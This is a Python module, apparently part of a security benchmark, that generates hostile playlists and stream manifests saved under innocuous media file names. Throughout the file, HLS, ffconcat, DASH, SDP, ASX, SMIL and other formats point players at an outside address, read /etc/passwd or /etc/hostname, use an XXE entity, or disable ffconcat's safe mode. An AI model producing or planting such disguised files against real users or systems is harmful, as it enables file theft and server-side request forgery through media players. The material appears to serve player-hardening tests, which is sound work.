"""Playlists, scripts of segments and descriptions of streams, each under a harmless name: they make a player open what
they name.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

from benchmarks.hostile.parts import Address, Files

_NAMES = ("clip.mp4", "clip.mov", "picture.jpg", "clip.webm", "sound.m4a", "list.m3u8", "sound.mp3", "picture.png")


def playlists(to: Address) -> Files:
    """HLS, concat, DASH, SDP and what older players read."""
    texts = [*_hls(to), *_concat(to), *_descriptions(to)]
    for name, text in zip(cycle(_NAMES), texts, strict=False):
        yield name, text.encode()


def _targets(to: Address) -> tuple[str, ...]:
    return (
        to.http,
        f"tcp://{to.host}:{to.port}",
        f"udp://{to.host}:{to.port}?pkt_size=188",
        f"rtmp://{to.host}:{to.port}/live/x",
        f"concat:{to.http}|file:///etc/passwd",
        "file:///etc/passwd",
        f"subfile,,start,0,end,64,,:{to.http}",
        f"crypto+{to.http}",
    )


def _hls(to: Address) -> Iterator[str]:
    for target in _targets(to):
        yield f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n"
        yield f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{target}",IV=0x0\n#EXTINF:1,\nfile:///etc/hostname\n'
    yield f'#EXTM3U\n#EXT-X-MAP:URI="{to.http}"\n#EXTINF:1,\na.mp4\n'
    yield f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,NAME="a",URI="{to.http}"\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{to.http}\n'
    yield f"\ufeff#EXTM3U\n#EXTINF:1,\n{to.http}\n"
    yield f"\n\n  #EXTM3U\n#EXTINF:1,\n{to.http}\n"
    yield f"{to.http}\n"
    yield f"#EXTM3U8\n#EXTINF:1,\n{to.http}\n" + "#" * 3_000


def _concat(to: Address) -> Iterator[str]:
    for target in _targets(to):
        yield f"ffconcat version 1.0\nfile '{target}'\nduration 1\n"
    yield f"file '{to.http}'\nfile '/etc/passwd'\n"
    yield f"ffconcat version 1.0\noption safe 0\nfile '{to.trap}'\n"


def _descriptions(to: Address) -> Iterator[str]:
    http = to.http
    yield f"v=0\no=- 0 0 IN IP4 {to.host}\nc=IN IP4 {to.host}\nt=0 0\nm=video {to.port} RTP/AVP 96\n"
    yield f"SDP:\nv=0\nc=IN IP4 {to.host}\nm=audio {to.port} RTP/AVP 0\n"
    yield f'<?xml version="1.0"?><MPD type="static"><Period><BaseURL>{http}</BaseURL></Period></MPD>'
    yield f'<!DOCTYPE MPD [<!ENTITY x SYSTEM "{http}">]><MPD>&x;</MPD>'
    yield f"[playlist]\nFile1={http}\nNumberOfEntries=1\n"
    yield f'<asx version="3.0"><entry><ref href="{http}"/></entry></asx>'
    yield f'<?xml version="1.0"?><playlist><trackList><track><location>{http}</location></track></trackList></playlist>'
    yield f'<smil><body><video src="{http}"/></body></smil>'
    yield f'<SmoothStreamingMedia><StreamIndex Url="{http}"/></SmoothStreamingMedia>'
    yield f'<manifest xmlns="http://ns.adobe.com/f4m/1.0"><media url="{http}"/></manifest>'
    yield f"RTSPtext\nrtsp://{to.host}:{to.port}/x\n"
    yield f"[Reference]\nRef1={http}\n"
    yield f"#!mpv\n{http}\n"
    yield f"; ffmetadata1\ntitle={http}\n"
